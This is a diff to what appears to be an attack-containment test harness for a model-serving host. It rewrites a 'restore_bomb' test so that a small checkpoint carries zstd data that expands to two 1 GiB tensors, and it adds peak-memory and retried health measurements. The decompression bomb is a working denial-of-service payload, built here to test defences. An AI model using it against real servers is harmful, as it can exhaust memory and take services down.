@@ -146,8 +146,20 @@ def _restore(t: Target, frames: list):
         return _client(t, t.alice).restore(path)
 
 
+def zero_bomb(nbytes: int) -> bytes:
+    """A zstd stream of ``nbytes`` zeros: a few tens of KB per GiB."""
+    import zstandard as zstd
+
+    c = zstd.ZstdCompressor(level=19).compressobj(size=nbytes)
+    chunk = bytes(16 << 20)
+    out = [c.compress(chunk) for _ in range(nbytes // len(chunk))]
+    return b"".join(out) + c.flush()
+
+
 def restore_bomb(t: Target) -> str:
-    """A few-KB checkpoint that declares a 64 GiB KV tensor (finding 3)."""
+    """A checkpoint of ~100 KB whose KV frame declares two 1 GiB tensors (under the
+    8 GiB tensor limit, over anything this model's KV can be) filled by zstd
+    run-length data (finding 3): decompressed before its shape was checked."""
     from ..checkpoint.frames import KV
     from ..errors import RemoteError
 
@@ -156,9 +168,9 @@ def restore_bomb(t: Target) -> str:
     body = dict(kv.body)
     if "batch" in body:
         body = dict(body["batch"][0])
-    n = body["end"] - body["start"]  # a plausible token range, a tensor of 2^30 heads over it
-    big = {"codec": "zstd", "dtype": "float32", "shape": [1, 1 << 30, n, 64], "nbytes": 256 * n << 30,
-           "parts": [b""], "meta": {}}
+    shape = [1, 4096, 1024, 64]  # float32: 1 GiB
+    big = {"codec": "zstd", "dtype": "float32", "shape": shape, "nbytes": 1 << 30, "parts": [zero_bomb(1 << 30)],
+           "meta": {}}
     body.update(keys=big, values=big)
     rest = [f for f in frames if f.kind != KV]
     crafted = rest[:1] + [type(kv)(kv.index, KV, body, 0)] + rest[1:]  # the header, the bomb, the others
@@ -324,15 +336,16 @@ def keys_file(path: str) -> dict:
     return keys
 
 
-def rss_mb(port: int) -> float:
-    """Resident memory of the process listening on ``port`` (the host actor)."""
+def rss_mb(port: int, field: str = "VmRSS") -> float:
+    """Resident memory of the process listening on ``port`` (the host actor);
+    ``field`` VmHWM: its peak so far."""
     out = subprocess.run(["ss", "-ltnpH", f"sport = :{port}"], capture_output=True, text=True).stdout
     pids = {int(x.split("pid=")[1].split(",")[0]) for x in out.split() if "pid=" in x}
     total = 0
     for pid in pids:
         try:
             with open(f"/proc/{pid}/status") as f:
-                total += next(int(line.split()[1]) for line in f if line.startswith("VmRSS:"))
+                total += next(int(line.split()[1]) for line in f if line.startswith(field + ":"))
         except (OSError, StopIteration):
             pass
     return total / 1024
@@ -406,7 +419,7 @@ def run(attacks: tuple[str, ...] = tuple(ATTACKS), progress=print) -> dict:
             for name in attacks:
                 progress(f"attack: {name}")
                 before = time.perf_counter()
-                rss0 = rss_mb(port)
+                rss0, peak0 = rss_mb(port), rss_mb(port, "VmHWM")
                 time.sleep(1.5)
                 t0 = time.perf_counter()
                 try:
@@ -415,18 +428,23 @@ def run(attacks: tuple[str, ...] = tuple(ATTACKS), progress=print) -> dict:
                     error, ok = f"{type(e).__name__}: {e}", False
                 t1 = time.perf_counter()
                 time.sleep(max(0.0, t0 + 2.0 - t1))  # the window: the attack and its aftermath, 2 s at least
-                h0 = time.perf_counter()
-                try:
-                    Client(t.address, admin, timeout=1).health()
-                    answered = time.perf_counter() - h0 <= 1.0
-                except Exception:
-                    answered = False
+                answered, health_ms = False, None
+                for _ in range(3):  # a loaded machine may miss one probe; a frozen host misses all
+                    h0 = time.perf_counter()
+                    try:
+                        Client(t.address, admin, timeout=1).health()
+                    except Exception:
+                        continue
+                    health_ms = round((time.perf_counter() - h0) * 1000, 1)
+                    if answered := health_ms <= 1000:
+                        break
                 base, during = by.tpot(before, t0), by.tpot(t0, max(t1, t0 + 2.0))
                 present = {x["id"] for x in Client(t.address, admin, timeout=10).sessions()}
                 rows[name] = {"contained": ok and answered, "error": error.splitlines()[0] if error else "",
-                              "seconds": round(t1 - t0, 2),
+                              "seconds": round(t1 - t0, 2), "health_ms": health_ms,
                               "bystander_tpot_ratio": round(during / base, 3) if base and during else None,
                               "host_rss_growth_mb": round(rss_mb(port) - rss0, 1),
+                              "host_peak_rss_growth_mb": round(rss_mb(port, "VmHWM") - peak0, 1),
                               "sessions_lost": int(by.s.id not in present)}
             by.stop.set()
             by.thread.join(60)
